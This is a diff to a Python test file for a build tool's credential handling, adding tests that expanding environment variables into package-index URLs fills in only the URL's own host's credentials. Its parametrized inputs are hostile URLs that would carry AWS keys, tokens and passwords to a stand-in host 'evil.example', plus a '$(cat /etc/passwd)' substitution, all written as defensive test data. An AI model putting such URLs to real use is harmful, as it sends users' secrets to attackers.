@@ -2,7 +2,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from kbuild.environment.credentials import expand_variables, hide_credentials, without_credentials
+from kbuild.environment.credentials import (
+    expand_variables,
+    hide_credentials,
+    split_credentials,
+    without_credentials,
+)
 from kbuild.errors import ConfigurationError
 
 WORDS = st.text("abcXYZ019-_.~%", min_size=1, max_size=12).map(lambda text: f"s3{text}")
@@ -25,14 +30,66 @@ def test_an_indexs_credentials_are_decoded_for_request_headers() -> None:
     assert list(values.values()) == ["me", "p@ss"]
 
 
-@pytest.mark.parametrize("url", ["conda-forge", "https://example.org/simple", "https://$USER:${PASS}@example.org/x"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "conda-forge",
+        "https://example.org/simple",
+        "https://${KBUILD_INDEX_EXAMPLE_ORG_USER}:${KBUILD_INDEX_EXAMPLE_ORG_PASSWORD_2}@example.org/x",
+    ],
+)
 def test_urls_without_literal_credentials_stay(url: str) -> None:
     assert hide_credentials(url, "INDEX") == (url, {})
 
 
 def test_unset_variables_are_named_all_at_once() -> None:
-    with pytest.raises(ConfigurationError, match="not set: A, B"):
-        expand_variables("https://$B:${A}@example.org/$C", {"C": "c"})
+    own = "KBUILD_INDEX_EXAMPLE_ORG"
+    with pytest.raises(ConfigurationError, match=f"not set: {own}_PASSWORD, {own}_USER"):
+        expand_variables(f"https://${own}_USER:${{{own}_PASSWORD}}@example.org/", {})
+
+
+SECRETS = {
+    "AWS_SECRET_ACCESS_KEY": "s3cret",
+    "KBUILD_INDEX_GOOD_EXAMPLE_ORG_PASSWORD": "s3cret",
+    "KBUILD_INDEX_GOOD__EXAMPLE_ORG_PASSWORD": "s3cret",
+    "KBUILD_TOKEN": "s3cret",
+    "KBUILD_CHANNEL": "file:///s3cret",
+}
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://evil.example/$AWS_SECRET_ACCESS_KEY/x.whl",
+        "https://evil.example/x.whl?k=${AWS_SECRET_ACCESS_KEY}",
+        "https://${AWS_SECRET_ACCESS_KEY}.evil.example/x.whl",
+        "https://a:$AWS_SECRET_ACCESS_KEY@evil.example/x.whl",
+        "https://a:${KBUILD_INDEX_GOOD_EXAMPLE_ORG_PASSWORD}@evil.example/x.whl",
+        "https://a:${KBUILD_INDEX_GOOD_EXAMPLE_ORG_PASSWORD}@good-example.org/x.whl",
+        "https://a:${KBUILD_INDEX_GOOD__EXAMPLE_ORG_PASSWORD}@good.example.org/x.whl",
+        "https://a:${KBUILD_INDEX_GOOD_EXAMPLE_ORG_PASSWORD}@good.example.org@evil.example/x.whl",
+        "https://a:${KBUILD_INDEX_GOOD_EXAMPLE_ORG_PASSWORD}@good.example.org:8443/x.whl",
+        "https://evil.example/$KBUILD_TOKEN/x.whl",
+        "https://evil.example/$KBUILD_CHANNEL/x.whl",
+        "$KBUILD_CHANNEL/$AWS_SECRET_ACCESS_KEY/x.whl",
+        "${AWS_SECRET_ACCESS_KEY}/x.whl",
+        "https://evil.example/a$/x.whl",
+        "https://evil.example/${AWS_SECRET_ACCESS_KEY:-x}/x.whl",
+        "https://evil.example/$(cat /etc/passwd)/x.whl",
+    ],
+)
+def test_no_variable_but_those_of_the_urls_own_host_is_filled_in(url: str) -> None:
+    with pytest.raises(ConfigurationError) as caught:
+        expand_variables(url, SECRETS)
+    assert "s3cret" not in f"{caught.value.message} {caught.value.hint}"
+    with pytest.raises(ConfigurationError):
+        split_credentials(url, SECRETS)
+
+
+def test_a_password_with_a_dollar_sign_is_a_password() -> None:
+    hidden, values = hide_credentials("https://me:$ecret@index.example.org/simple", "INDEX")
+    assert "$ecret" not in hidden and "$ecret" in values.values()
+    assert split_credentials(hidden, values) == ("https://index.example.org/simple", ("me", "$ecret"))
 
 
 def test_a_programs_words_lose_their_credentials() -> None:
